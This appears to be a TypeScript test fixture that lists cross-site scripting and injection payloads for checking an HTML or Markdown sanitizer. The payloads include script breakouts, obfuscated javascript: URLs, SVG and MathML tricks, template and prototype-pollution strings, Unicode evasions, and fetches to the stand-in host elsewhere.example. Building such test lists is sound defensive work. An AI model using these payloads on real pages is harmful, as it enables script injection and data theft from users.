/*
 * What people have tried to make pages run, fetch or believe. Every script in here calls `tripwire`, every address from elsewhere is
 * elsewhere.example: whoever watches for those two sees whether any of it worked.
 */

const RUN = 'tripwire()'
const ELSEWHERE = 'https://elsewhere.example'

const elements = [
  '<img src=x',
  '<svg',
  '<body',
  '<video src=x',
  '<audio src=x',
  '<input autofocus',
  '<select autofocus',
  '<details open',
  '<marquee',
  '<iframe src=x',
  '<object data=x',
  '<embed src=x',
  '<link rel=stylesheet href=x',
  '<div tabindex=1 style="animation:x 1s"',
]
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'onstart',
]

const withHandlers = elements.flatMap((element) => handlers.map((handler) => `${element} ${handler}="${RUN}">`))

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>setTimeout("${RUN}")</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<template><script>${RUN}</script></template>`,
]

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `%6Aavascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `//javascript:${RUN}`,
  `javascript://elsewhere.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:${ELSEWHERE}/1`,
  `file:///etc/passwd`,
]
const around: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![look](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `[click][1]\n\n[1]: ${address}`,
]
const withAddresses = addresses.flatMap((address) => around.map((put) => put(address)))

const drawings = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><style>@import '${ELSEWHERE}/a.css';</style></svg>`,
  `<svg><image href="${ELSEWHERE}/a.png"/></svg>`,
  `<svg/onload=${RUN}//`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
]

const fetches = [
  `![x](${ELSEWHERE}/a.png)`,
  `![x](//elsewhere.example/a.png)`,
  `[![x](${ELSEWHERE}/a.png)](${ELSEWHERE})`,
  `<img src="${ELSEWHERE}/a.png">`,
  `<img srcset="${ELSEWHERE}/a.png 1x">`,
  `<picture><source srcset="${ELSEWHERE}/a.png"><img></picture>`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<link rel=preconnect href="${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<style>body{background:url(${ELSEWHERE}/a.png)}</style>`,
  `<div style="background:url(${ELSEWHERE}/a.png)">x</div>`,
  `<form action="${ELSEWHERE}"><input name=x autofocus><button>x</button></form>`,
  `<a ping="${ELSEWHERE}" href="${ELSEWHERE}">x</a>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<portal src="${ELSEWHERE}"></portal>`,
  `<video poster="${ELSEWHERE}/a.png"></video>`,
  `<track src="${ELSEWHERE}/a.vtt">`,
  `<input type=image src="${ELSEWHERE}/a.png">`,
]

const markdown = [
  `[x](https://example.com "title" onclick="${RUN}")`,
  `[x](https://example.com '"><img src=x onerror=${RUN}>')`,
  `[x"onmouseover="${RUN}](https://example.com)`,
  `![x" onerror="${RUN}](https://example.com/a.png)`,
  `![x](https://example.com/a.png "x" onload="${RUN}")`,
  `[x](https://example.com/"onmouseover="${RUN})`,
  `**<img src=x onerror=${RUN}>**`,
  `\`<img src=x onerror=${RUN}>\``,
  `# <img src=x onerror=${RUN}>`,
  `- <img src=x onerror=${RUN}>`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `> <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> | b |\n| - | - |\n| <svg onload=${RUN}> | b |`,
  `~~<svg onload=${RUN}>~~`,
  `\\<img src=x onerror=${RUN}\\>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `    <img src=x onerror=${RUN}>`,
  `<div>\n\n<img src=x onerror=${RUN}>\n\n</div>`,
  `<a@elsewhere.example"onmouseover="${RUN}">`,
  `https://example.com/"onmouseover="${RUN}`,
  `www.example.com/"onmouseover="${RUN}`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `:img{src=x onerror=${RUN}}`,
  `${'['.repeat(60)}x${']'.repeat(60)}(javascript:${RUN})`,
  `${'> '.repeat(60)}<img src=x onerror=${RUN}>`,
]

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{${RUN}}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%${RUN}%}`,
  `[[${RUN}]]`,
  `*{${RUN}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${RUN}"}}`,
  `{"__proto__":{"onerror":"${RUN}","innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"constructor":{"prototype":{"toString":"${RUN}"}}}`,
  `__proto__`,
  `"};${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `x' || ${RUN} || '`,
  `<x v-html="'<img src=x onerror=${RUN}>'">`,
  `<x ng-app ng-csp>{{$eval.constructor('${RUN}')()}}</x>`,
  `<x x-data="${RUN}" hx-on:load="${RUN}">`,
]

const letters = [
  `\u202E>)(eriwpirt=rorrenO x=crs gmi<\u202C`,
  `＜img src=x onerror=${RUN}＞`,
  `﹤script﹥${RUN}﹤/script﹥`,
  `\u2039script\u203A${RUN}`,
  `<\u200Bscript>${RUN}</script>`,
  `<img src=x one\u0000rror=${RUN}>`,
  `<img\u00A0src=x\u00A0onerror=${RUN}>`,
  `<img\u000Csrc=x\u000Conerror=${RUN}>`,
  `\uFEFF<script>${RUN}</script>`,
  `<ſcript>${RUN}</ſcript>`,
  `<ımg src=x onerror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uD800<img src=x onerror=${RUN}>`,
  `\u{1F9EA}<svg onload=${RUN}>\u200D`,
  `a\u0300\u0301\u0302\u0303<svg onload=${RUN}>`,
]

/** What swallows everything behind it, so that it comes alone. */
export const swallowing: readonly string[] = [
  `\`\`\`html" onmouseover="${RUN}\n<script>${RUN}</script>`,
  `\`\`\`<img src=x onerror=${RUN}>\n<img src=x onerror=${RUN}>\n\`\`\``,
  `~~~javascript:${RUN}\n</code></pre><script>${RUN}</script>`,
  `<!-- <img src=x onerror=${RUN}>`,
  `<textarea><img src=x onerror=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}>`,
  `<plaintext><img src=x onerror=${RUN}>`,
]

/** Each stands for itself among the others. */
export const payloads: readonly string[] = [
  ...withHandlers,
  ...scripts,
  ...withAddresses,
  ...drawings,
  ...fetches,
  ...markdown,
  ...templates,
  ...letters,
]
